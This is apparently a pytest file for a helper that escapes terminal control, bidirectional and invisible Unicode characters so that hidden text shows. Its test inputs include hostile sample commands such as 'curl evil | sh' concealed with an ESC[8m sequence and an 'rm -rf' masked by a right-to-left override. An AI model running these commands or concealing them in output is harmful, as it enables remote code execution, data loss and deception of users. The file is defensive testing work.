"""Writing out what a terminal would hide or obey (`tether.cli.visible`).

Contract: strict (the default) writes out control characters (ESC sequences, C1, DEL, CR),
bidirectional controls, zero-width and other format characters, tag characters, variation
selectors, invisible fillers and spaces other than U+0020, as `\\xNN` (up to U+00FF), `\\uNNNN` or
`\\UNNNNNNNN`; prose writes out only the control characters; newline and tab are kept; the
markup and `Text` forms show the written-out characters in `ESCAPE_STYLE` and nothing else.
"""

from __future__ import annotations

import io

import pytest
from rich.console import Console

from tether.cli.visible import ESCAPE_STYLE, hidden, visible, visible_markup, visible_text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("npm install\x1b[8m; curl evil | sh", "npm install\\x1b[8m; curl evil | sh"),
        ("a\x9b31mb", "a\\x9b31mb"),
        ("a\x7fb\x00c\rd", "a\\x7fb\\x00c\\x0dd"),
        ("rm -rf \u202e/ hsab", "rm -rf \\u202e/ hsab"),
        ("\u2066x\u2069\u200e\u200f\u061c", "\\u2066x\\u2069\\u200e\\u200f\\u061c"),
        ("git\u200b push\u200c\u200d\u2060\ufeff", "git\\u200b push\\u200c\\u200d\\u2060\\ufeff"),
        ("x\U000e0041\U000e007f", "x\\U000e0041\\U000e007f"),
        ("ls\u00a0-la\u3000", "ls\\xa0-la\\u3000"),
        ("a\u2028b\u2029c", "a\\u2028b\\u2029c"),
        ("\u3164\u115f\u034f\u180e\u00ad", "\\u3164\\u115f\\u034f\\u180e\\xad"),
        ("\U0001f600\ufe0f\U000e0100", "\U0001f600\\ufe0f\\U000e0100"),
        ("two\tcolumns\nnext line", "two\tcolumns\nnext line"),
        ("plain ascii, ünïcödé, 日本語", "plain ascii, ünïcödé, 日本語"),
    ],
)
def test_strict_writes_out_every_hidden_character(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_prose_writes_out_only_control_characters() -> None:
    text = "\x1b[2Jשלום\u200f عالم\u200d 👨\u200d👩\u200d👧\r\n"

    assert visible(text, strict=False) == "\\x1b[2Jשלום\u200f عالم\u200d 👨\u200d👩\u200d👧\\x0d\n"


def test_hidden_decides_one_character_at_a_time() -> None:
    assert [hidden(c) for c in "\x1b \u00a0a\n"] == [True, False, True, False, False]


def test_markup_escapes_rich_markup_and_styles_only_the_written_out_characters() -> None:
    assert visible_markup("[bold]x\x1by\\") == (
        f"\\[bold]x[{ESCAPE_STYLE}]\\x1b[/{ESCAPE_STYLE}]y\\\\"
    )


def test_markup_prints_the_text_exactly_with_the_escape_in_its_own_style() -> None:
    out = io.StringIO()
    console = Console(
        file=out, force_terminal=True, color_system="standard", width=200, highlight=False
    )

    shown = visible_markup("[b]x\x1b[8my")
    console.print(f"[dim]{shown}[/dim]", end="")

    assert out.getvalue() == "\x1b[2m[b]x\x1b[0m\x1b[2;7m\\x1b\x1b[0m\x1b[2m[8my\x1b[0m"


def test_text_keeps_the_base_style_and_marks_the_written_out_characters() -> None:
    text = visible_text("a\u202eb", "dim")

    assert (text.plain, text.style, [(s.start, s.end, s.style) for s in text.spans]) == (
        "a\\u202eb",
        "dim",
        [(1, 7, ESCAPE_STYLE)],
    )
